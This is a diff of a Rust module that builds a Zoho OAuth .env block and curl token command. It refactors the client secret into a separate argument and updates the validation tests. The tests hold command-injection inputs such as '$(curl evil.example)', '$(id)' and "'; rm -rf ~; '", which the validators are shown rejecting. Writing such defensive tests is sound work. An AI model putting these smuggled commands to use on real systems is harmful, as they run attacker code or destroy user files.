@@ -32,16 +32,17 @@ impl UserMessage for ScriptError {
 }
 
 /// The `.env` block and the `curl` line, for a refresh token of `client`
-/// whose product APIs are at `api_domain`.
+/// (its secret opened) whose product APIs are at `api_domain`.
 pub fn env_block(
     client: &SelfClient,
+    client_secret: &Secret,
     refresh_token: &Secret,
     api_domain: &str,
 ) -> Result<String, ScriptError> {
     if !looks_like_id(&client.client_id) {
         return Err(ScriptError::ClientId);
     }
-    if !looks_like_secret(client.client_secret.expose()) {
+    if !looks_like_secret(client_secret.expose()) {
         return Err(ScriptError::ClientSecret);
     }
     if !refresh_token.is_bearer_token() {
@@ -57,7 +58,7 @@ pub fn env_block(
          -d \"client_id=$ZOHO_CLIENT_ID\" -d \"client_secret=$ZOHO_CLIENT_SECRET\" \
          -d \"refresh_token=$ZOHO_REFRESH_TOKEN\"\n",
         client.client_id,
-        client.client_secret.expose(),
+        client_secret.expose(),
         refresh_token.expose(),
         client.dc.origin(),
         api_domain,
@@ -68,6 +69,13 @@ pub fn env_block(
 mod tests {
     use super::*;
     use crate::oauth::client::check;
+
+    const SECRET: &str = "0123456789abcdef0123456789abcdef0123456789";
+
+    /// `env_block` for `client` with its own secret.
+    fn block(client: &SelfClient, token: &Secret, api: &str) -> Result<String, ScriptError> {
+        env_block(client, &Secret::new(SECRET), token, api)
+    }
 
     fn client() -> SelfClient {
         check(
@@ -80,13 +88,13 @@ mod tests {
 
     #[test]
     fn the_block_names_all_five_quoted_and_mints_with_them() {
-        let block = env_block(
+        let made = block(
             &client(),
             &Secret::new("1000.r.t"),
             "https://www.zohoapis.com.au",
         )
         .unwrap();
-        let lines: Vec<&str> = block.lines().collect();
+        let lines: Vec<&str> = made.lines().collect();
         assert_eq!(
             lines[..5],
             [
@@ -108,7 +116,7 @@ mod tests {
             assert!(curl.contains(part), "{part} in {curl}");
         }
         // The API domain as Zoho spells it, whatever case it was saved in.
-        let upper = env_block(
+        let upper = block(
             &client(),
             &Secret::new("1000.r.t"),
             "HTTPS://WWW.ZOHOAPIS.EU",
@@ -124,7 +132,7 @@ mod tests {
         // The alphabet is `Secret::is_bearer_token`'s (tested there).
         for bad in ["1000.$(curl evil.example)", "1000.a'b"] {
             assert_eq!(
-                env_block(&client(), &Secret::new(bad), api),
+                block(&client(), &Secret::new(bad), api),
                 Err(ScriptError::RefreshToken),
                 "{bad:?}"
             );
@@ -134,16 +142,15 @@ mod tests {
             "https://www.zohoapis.com'$(id)'",
             "",
         ] {
-            let refused = env_block(&client(), &Secret::new("1000.r.t"), domain);
+            let refused = block(&client(), &Secret::new("1000.r.t"), domain);
             assert_eq!(refused, Err(ScriptError::ApiDomain), "{domain}");
         }
         let mut odd = client();
         odd.client_id = "1000.ABC'; rm -rf ~; '".into();
-        let refused = env_block(&odd, &Secret::new("1000.r.t"), api);
+        let refused = block(&odd, &Secret::new("1000.r.t"), api);
         assert_eq!(refused, Err(ScriptError::ClientId));
-        let mut odd = client();
-        odd.client_secret = Secret::new("abc$(id)");
-        let refused = env_block(&odd, &Secret::new("1000.r.t"), api);
+        let secret = Secret::new("abc$(id)");
+        let refused = env_block(&client(), &secret, &Secret::new("1000.r.t"), api);
         assert_eq!(refused, Err(ScriptError::ClientSecret));
         assert_eq!(
             ScriptError::RefreshToken.message().args,
